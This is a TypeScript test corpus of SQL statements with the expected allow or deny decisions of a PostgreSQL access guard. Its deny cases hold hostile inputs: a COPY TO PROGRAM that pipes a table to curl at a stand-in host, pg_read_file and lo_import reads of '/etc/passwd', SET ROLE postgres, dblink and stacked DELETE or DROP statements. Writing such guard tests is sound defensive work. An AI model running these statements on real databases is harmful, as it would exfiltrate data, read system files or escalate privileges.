// The curated corpus: statements with the action, relations, decision and reason the guard must
// produce under CORPUS_GRANT (database `appdb`, search_path `public`).
import type { Action, Capability, DenyReason } from "@pulse/core";

export const CORPUS_GRANT: readonly Capability[] = [
  { res: "pg://appdb/public.*", act: ["read", "write"] },
  { res: "pg://appdb/sales.orders", act: ["read", "write", "delete"] },
  { res: "pg://appdb/sales.items", act: ["read"] },
  { res: "pg://appdb/app.audit_fn()", act: ["write"] },
];

export interface CorpusCase {
  readonly sql: string;
  /** Strongest action; `none` when the statement touches no resource or is refused. */
  readonly action: Action | "none";
  /** Relations as `schema.name`, sorted. */
  readonly relations: readonly string[];
  readonly decision: "allow" | "deny";
  readonly reason?: DenyReason;
  /** For the differential test: `superset` when the planner legitimately drops a relation. */
  readonly server?: "same" | "superset" | "skip";
}

const S = "out-of-scope" as const;
const A = "action-not-granted" as const;
const U = "unsupported-operation" as const;
const M = "malformed" as const;
const HR = "hr.salaries";
const O = "public.orders";
const C = "public.customers";

const allow = (sql: string, action: CorpusCase["action"], relations: string[], more = {}) => ({
  sql,
  action,
  relations,
  decision: "allow" as const,
  ...more,
});
const deny = (
  sql: string,
  action: CorpusCase["action"],
  relations: string[],
  reason: DenyReason,
  more = {},
) => ({
  sql,
  action,
  relations,
  decision: "deny" as const,
  reason,
  ...more,
});
const refused = (sql: string, reason: DenyReason) => deny(sql, "none", [], reason);

export const CORPUS: readonly CorpusCase[] = [
  // Controls that must be allowed.
  allow("SELECT * FROM orders", "read", [O]),
  allow("SELECT id, total FROM public.orders WHERE id = 1", "read", [O]),
  allow("TABLE orders", "read", [O]),
  allow("SELECT count(*), max(total) FROM Orders", "read", [O]),
  allow("SELECT * FROM PUBLIC.ORDERS", "read", [O]),
  allow('SELECT * FROM "Orders"', "read", ['public."Orders"']),
  allow('SELECT * FROM U&"Or\\0064ers"', "read", ['public."Orders"'], { server: "skip" }),
  allow(`SELECT * FROM ${"h".repeat(70)}`, "read", [`public.${"h".repeat(63)}`], {
    server: "skip",
  }),
  allow('SELECT * FROM public."odd.name"', "read", ['public."odd.name"']),
  allow('SELECT * FROM "public.orders"', "read", ['public."public.orders"'], { server: "skip" }),
  allow("SELECT * FROM sales.orders o JOIN customers c ON c.id = o.customer_id", "read", [
    C,
    "sales.orders",
  ]),
  allow("SELECT * FROM orders, customers", "read", [C, O]),
  allow("WITH recent AS (SELECT * FROM orders) SELECT * FROM recent", "read", [O]),
  allow("WITH orders AS (SELECT 1 AS id) SELECT * FROM orders", "none", []),
  allow(
    "WITH a AS (SELECT * FROM customers) SELECT * FROM a, (WITH customers AS (SELECT 2) SELECT * FROM customers) x",
    "read",
    [C],
  ),
  allow(
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r",
    "none",
    [],
  ),
  allow("SELECT lower(name), now(), extract(year FROM now()), trim(name) FROM customers", "read", [
    C,
  ]),
  allow("SELECT * FROM generate_series(1, 3)", "none", []),
  allow("VALUES (1, 'a'), (2, 'b')", "none", []),
  allow("SELECT 1", "none", []),
  allow("SELECT 1;", "none", []),
  allow("SELECT row_number() OVER (PARTITION BY customer_id ORDER BY id) FROM orders", "read", [O]),
  allow("SELECT 1 FROM orders WHERE total > (SELECT avg(total) FROM sales.orders)", "read", [
    O,
    "sales.orders",
  ]),
  allow(
    "SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE name LIKE 'a%')",
    "read",
    [C, O],
  ),
  allow(
    "SELECT o.id, i.order_id FROM orders o LEFT JOIN LATERAL (SELECT * FROM sales.items i WHERE i.order_id = o.id) i ON true",
    "read",
    [O, "sales.items"],
  ),
  allow(
    "SELECT jsonb_build_object('id', id) FROM orders ORDER BY coalesce(total, 0) DESC LIMIT 5",
    "read",
    [O],
  ),
  allow("SELECT * FROM orders TABLESAMPLE bernoulli (50)", "read", [O], { server: "skip" }),
  allow(
    "SELECT x FROM JSON_TABLE('[1,2]'::jsonb, '$[*]' COLUMNS (x int PATH '$')) AS jt",
    "none",
    [],
  ),
  allow("BEGIN", "none", []),
  allow("BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY", "none", []),
  allow("SAVEPOINT a", "none", []),
  allow("ROLLBACK TO SAVEPOINT a", "none", []),
  allow("COMMIT", "none", []),

  // Out-of-scope relations hidden in every corner of a SELECT.
  deny(`SELECT id FROM orders UNION ALL SELECT id FROM ${HR}`, "read", [HR, O], S),
  deny(`SELECT (SELECT max(amount) FROM ${HR}) FROM orders`, "read", [HR, O], S),
  deny(
    `SELECT * FROM orders o WHERE EXISTS (SELECT 1 FROM ${HR} s WHERE s.id = o.id)`,
    "read",
    [HR, O],
    S,
  ),
  deny(
    `SELECT * FROM orders o, LATERAL (SELECT * FROM ${HR} s WHERE s.id = o.id) x`,
    "read",
    [HR, O],
    S,
  ),
  deny(`SELECT * FROM orders, ${HR}`, "read", [HR, O], S),
  deny(`SELECT * FROM orders ORDER BY (SELECT count(*) FROM ${HR})`, "read", [HR, O], S),
  deny(
    `SELECT id FROM orders GROUP BY id HAVING count(*) > (SELECT count(*) FROM ${HR})`,
    "read",
    [HR, O],
    S,
  ),
  deny(`SELECT * FROM orders WHERE id = ANY (SELECT id FROM ${HR})`, "read", [HR, O], S),
  deny(`SELECT * FROM orders JOIN ${HR} USING (id)`, "read", [HR, O], S),
  deny(`WITH s AS (SELECT * FROM ${HR}) SELECT * FROM orders`, "read", [HR, O], S, {
    server: "superset",
  }),
  deny(`SELECT * FROM (SELECT * FROM ${HR}) sub`, "read", [HR], S),
  deny(`SELECT array(SELECT amount FROM ${HR})`, "read", [HR], S),
  deny(`SELECT * FROM ONLY ${HR}`, "read", [HR], S),
  deny(
    `SELECT * FROM orders WHERE total < ALL (SELECT amount FROM ${HR} WHERE amount IN (SELECT 1))`,
    "read",
    [HR, O],
    S,
  ),
  deny("SELECT relname FROM pg_class", "read", ["pg_catalog.pg_class", "public.pg_class"], S, {
    server: "superset",
  }),
  deny("SELECT * FROM information_schema.tables", "read", ["information_schema.tables"], S, {
    server: "skip",
  }),
  deny("SELECT * FROM sales.customers", "read", ["sales.customers"], S, { server: "skip" }),
  refused("SELECT * FROM pg_temp.orders", S),
  refused("CREATE TEMP TABLE scratch AS SELECT 1", S),

  // Writes, deletes and the statements that hide them.
  allow("INSERT INTO orders (id, total) VALUES (1, 10)", "write", [O]),
  allow("INSERT INTO orders (id) VALUES (1) RETURNING *", "write", [O]),
  allow(
    "INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET total = excluded.total",
    "write",
    [O],
  ),
  allow("UPDATE orders SET total = 0 WHERE id = 1", "write", [O]),
  allow("SELECT * FROM orders FOR UPDATE", "write", [O]),
  allow(
    "SELECT * FROM sales.orders o JOIN customers c ON c.id = o.customer_id FOR SHARE OF o",
    "write",
    [C, "sales.orders"],
  ),
  allow(
    "MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN UPDATE SET total = 0",
    "write",
    [C, O],
  ),
  allow("DELETE FROM sales.orders WHERE id = 1", "delete", ["sales.orders"]),
  allow("TRUNCATE sales.orders", "delete", ["sales.orders"]),
  allow(
    "WITH gone AS (DELETE FROM sales.orders WHERE id = 1 RETURNING *) SELECT * FROM gone",
    "delete",
    ["sales.orders"],
  ),
  allow("EXPLAIN DELETE FROM orders", "read", [O]),
  allow("EXPLAIN ANALYZE SELECT * FROM orders", "read", [O]),
  deny("WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone", "delete", [O], A),
  allow(
    "WITH moved AS (INSERT INTO orders SELECT * FROM sales.orders RETURNING id) SELECT count(*) FROM moved",
    "write",
    [O, "sales.orders"],
  ),
  deny("SELECT * INTO copy FROM orders", "admin", ["public.copy", O], A),
  deny("CREATE TABLE copy AS SELECT * FROM orders", "admin", ["public.copy", O], A),
  deny("EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1", "delete", [O], A),
  deny("EXPLAIN ANALYSE DELETE FROM orders", "delete", [O], A),
  deny("EXPLAIN (ANALYZE '1', FORMAT JSON) DELETE FROM orders", "delete", [O], A),
  allow("EXPLAIN (ANALYZE off) DELETE FROM orders", "read", [O]),
  deny("DELETE FROM orders WHERE id = 1", "delete", [O], A),
  deny("TRUNCATE orders", "delete", [O], A),
  deny(
    "MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE",
    "delete",
    [C, O],
    A,
  ),
  deny(`INSERT INTO orders SELECT * FROM ${HR}`, "write", [HR, O], S),
  deny(
    `UPDATE orders SET total = s.amount FROM ${HR} s WHERE s.id = orders.id`,
    "write",
    [HR, O],
    S,
  ),
  deny(`UPDATE orders SET total = (SELECT max(amount) FROM ${HR})`, "write", [HR, O], S),
  deny(`SELECT * FROM ${HR} FOR UPDATE`, "write", [HR], S),
  deny("SELECT * FROM sales.items FOR UPDATE", "write", ["sales.items"], A),
  deny(`INSERT INTO ${HR} VALUES (1, 100)`, "write", [HR], S),
  deny("DROP TABLE orders", "admin", [O], A),
  deny("INSERT INTO orders (id) VALUES (nextval('orders_id_seq'))", "write", [O], S),

  // Functions: deny by default, unless a grant names them.
  allow("SELECT app.audit_fn(1)", "write", []),
  deny("SELECT audit_fn(1)", "write", [], S),
  deny("SELECT app.other_fn()", "write", [], S),
  deny("SELECT pg_read_file('/etc/passwd')", "admin", [], S),
  deny("SELECT set_config('role', 'postgres', false)", "admin", [], S),
  deny("SELECT pg_sleep(10)", "write", [], S),
  deny("SELECT pg_advisory_lock(1)", "write", [], S),
  deny("SELECT pg_terminate_backend(1)", "admin", [], S),
  deny("SELECT lo_import('/etc/passwd')", "admin", [], S),
  deny("SELECT dblink('host=x', 'DELETE FROM orders')", "write", [], S),
  deny("SELECT query_to_xml('DELETE FROM orders', true, true, '')", "write", [], S),
  deny("SELECT current_setting('is_superuser')", "admin", [], S),
  deny("SELECT * FROM orders WHERE id = (SELECT nextval('s'))", "write", [O], S),

  // Statements that are not data access, several statements, and text that is not SQL.
  refused("SELECT 1 FROM orders; DELETE FROM orders", U),
  refused("COMMIT; SET TRANSACTION READ WRITE; DROP TABLE orders", U),
  refused("DO $$ BEGIN DELETE FROM orders; END $$", U),
  refused("PREPARE p AS DELETE FROM orders", U),
  refused("EXECUTE p", U),
  refused("COPY orders TO PROGRAM 'curl -d @- http://example.invalid'", U),
  refused("COPY orders FROM STDIN", U),
  refused("SET ROLE postgres", U),
  refused("SET search_path TO hr", U),
  refused("RESET ALL", U),
  refused("SHOW search_path", U),
  refused("CALL app.proc()", U),
  refused("LISTEN events", U),
  refused("NOTIFY events, 'x'", U),
  refused("GRANT SELECT ON orders TO PUBLIC", U),
  refused("CREATE TABLE t (id int)", U),
  refused("VACUUM orders", U),
  refused("DECLARE c CURSOR FOR SELECT * FROM hr.salaries", U),
  refused("PREPARE TRANSACTION 'x'", U),
  refused("DROP TABLE orders CASCADE", U),
  refused("TRUNCATE sales.orders CASCADE", U),
  refused("SELECT * FROM orders TABLESAMPLE system_rows (10)", U),
  refused("SELECT * FROM orders WHERE id OPERATOR(app.===) 1", U),
  refused("SELECT * FROM appdb.public.orders", U),
  refused("UPDATE orders SET total = 0 WHERE CURRENT OF c", U),
  refused("selec * from orders", M),
  refused("", M),
  refused("   -- only a comment", M),
  refused("SELECT 'unterminated", M),
];
